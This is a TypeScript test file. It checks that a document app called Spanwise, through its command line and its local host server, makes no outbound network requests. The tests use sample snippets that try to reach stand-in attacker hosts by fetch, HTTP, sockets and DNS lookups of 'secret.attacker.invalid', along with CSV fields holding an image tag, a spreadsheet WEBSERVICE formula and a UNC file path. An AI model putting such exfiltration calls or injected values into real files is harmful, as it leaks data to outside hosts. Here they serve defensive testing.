import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { temporaryFolder } from '../support/documents.ts';

const folder = temporaryFolder();
const at = (path: string) => fileURLToPath(new URL(path, import.meta.url));
const WATCHED = ['--import', new URL('../support/onlyLoopback.ts', import.meta.url).href];
const env = { ...process.env, SPANWISE_DATA: join(folder, 'data') };

function watched(...args: string[]) {
  const { status, stderr } = spawnSync(process.execPath, [...WATCHED, ...args], { encoding: 'utf8', env });
  return { status, stderr };
}

describe('no request leaves the process', () => {
  it.each([
    ['fetch', "await fetch('https://attacker.invalid/')"],
    ['http', "(await import('node:http')).get('http://attacker.invalid/')"],
    ['https by address', "(await import('node:https')).get('https://192.0.2.1/')"],
    ['net', "(await import('node:net')).connect(80, '192.0.2.1')"],
    ['net with options', "(await import('node:net')).connect({ host: '192.0.2.1', port: 80 })"],
    ['dns', "(await import('node:dns')).resolve('secret.attacker.invalid', () => {})"],
    ['dns promises', "await (await import('node:dns/promises')).lookup('secret.attacker.invalid')"],
    ['datagram', "(await import('node:dgram')).createSocket('udp4')"],
    [
      'worker',
      "new (await import('node:worker_threads')).Worker(\"fetch('https://attacker.invalid/')\", { eval: true })",
    ],
  ])('SEC the watch sees an attempt by %s', (_, code) => {
    const { stderr } = watched('--input-type=module', '-e', `${code}; setTimeout(() => {}, 1_000);`);
    expect(stderr).toContain('A request tried to leave');
  });

  it('SEC the command line makes, reads, edits and exports without one', { timeout: 120_000 }, () => {
    const cli = (...args: string[]) => expect(watched(at('../../electron/cli/main.ts'), ...args).stderr).toBe('');
    const doc = join(folder, 'council.spanwise');
    // Text that a careless library would fetch.
    const rows = [
      'Post ID,Reports To,Job Title,Notes',
      'P1,,<img src=http://attacker.invalid/a.png>,https://attacker.invalid/',
      'P2,P1,"=WEBSERVICE(""http://attacker.invalid/"")",file://attacker.invalid/share',
    ];
    writeFileSync(join(folder, 'posts.csv'), rows.join('\n'));
    cli('new', doc);
    cli('import', join(folder, 'posts.csv'), doc, '--structure', 'Current');
    for (const ending of ['pdf', 'svg', 'xlsx', 'csv'])
      cli('export', doc, join(folder, `out.${ending}`), '--structure', 'Current');
    cli('check', doc);
    expect(readFileSync(join(folder, 'out.pdf')).subarray(0, 5).toString()).toBe('%PDF-');
  });

  it('SEC the host serves its page and its calls without one', { timeout: 60_000 }, async () => {
    mkdirSync(join(folder, 'host'));
    const child = spawn(process.execPath, [...WATCHED, at('../../electron/host/main.ts')], { env });
    let [printed, errors] = ['', ''];
    child.stderr.on('data', (data) => (errors += data));
    const ended = new Promise<number | null>((resolve) => child.on('exit', resolve));
    const url = await new Promise<string>((resolve, reject) => {
      child.stdout.on('data', (data) => {
        printed += data;
        const found = /http:\S+/.exec(printed);
        if (found) resolve(found[0]);
      });
      child.on('exit', () => reject(new Error(errors)));
    });
    const entered = await fetch(url, { redirect: 'manual' });
    const cookie = entered.headers.get('set-cookie')?.split(';')[0] ?? '';
    const { origin } = new URL(url);
    const key = /#key=([\w-]+)$/.exec(entered.headers.get('location') ?? '')?.[1] ?? '';
    const call = async (name: string, args: unknown) => {
      const headers = { cookie, origin, 'content-type': 'application/json', 'x-spanwise-key': key };
      const answer = await fetch(`${origin}/call`, { method: 'POST', headers, body: JSON.stringify({ name, args }) });
      return (await answer.json()) as { ok: boolean; value: { doc: string } };
    };
    const made = await call('document.create', { title: 'https://attacker.invalid/' });
    expect(made.ok).toBe(true);
    expect(await call('document.open', { path: '//attacker.invalid/share/x.spanwise' })).toMatchObject({ ok: false });
    expect(await call('document.load', { doc: made.value.doc })).toMatchObject({ ok: true });
    child.kill('SIGTERM');
    expect([await ended, errors]).toEqual([0, '']);
  });
});
